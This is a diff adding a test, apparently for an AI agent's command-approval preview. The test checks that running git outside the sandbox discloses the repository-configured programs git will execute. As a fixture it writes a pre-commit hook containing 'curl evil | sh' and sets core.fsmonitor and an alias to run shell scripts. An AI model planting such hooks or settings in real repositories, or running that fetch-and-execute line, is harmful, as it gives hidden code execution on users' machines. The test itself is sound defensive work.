@@ -63,3 +63,26 @@ def test_command_preview_and_answers() -> None:
     assert split_answer("once") == ("once", "")
     assert denial_text("command", "run_command", "ls", "too slow").startswith("denied by user: too slow")
     assert "denied" in denial_text("command", "run_command", "ls", "")
+
+
+def test_an_outside_git_command_lists_the_programs_the_repository_makes_git_run(tmp_path: Path) -> None:
+    """Approving ``git commit`` outside the sandbox ran the clone's ``.git/hooks/pre-commit`` and its
+    ``core.fsmonitor`` on the host, and the dialog showed only ``$ git commit``."""
+    import subprocess
+
+    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
+    plain = preview("run_command", {"command": "git commit -m x", "outside_sandbox": True}, tmp_path)
+    assert plain == "$ git commit -m x  (outside the sandbox)"
+    hook = tmp_path / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    hook.chmod(0o755)
+    subprocess.run(["git", "config", "core.fsmonitor", "sh .git/x.sh"], cwd=tmp_path, check=True)
+    subprocess.run(["git", "config", "alias.st", "status"], cwd=tmp_path, check=True)  # not a program
+    subprocess.run(["git", "config", "alias.up", "!sh .git/up.sh"], cwd=tmp_path, check=True)
+    shown = preview("run_command", {"command": "git commit -m x", "outside_sandbox": True}, tmp_path)
+    line = shown.splitlines()[1]
+    assert line.startswith("# outside the sandbox, git runs what this repository names, as you:")
+    assert "core.fsmonitor = sh .git/x.sh" in line and "hook pre-commit" in line and "alias.up = !sh" in line
+    assert "alias.st" not in line and "applypatch-msg" not in line  # the .sample hooks git init wrote
+    assert "\n" not in preview("run_command", {"command": "git commit -m x"}, tmp_path)  # sandboxed
+    assert "\n" not in preview("run_command", {"command": "make", "outside_sandbox": True}, tmp_path)
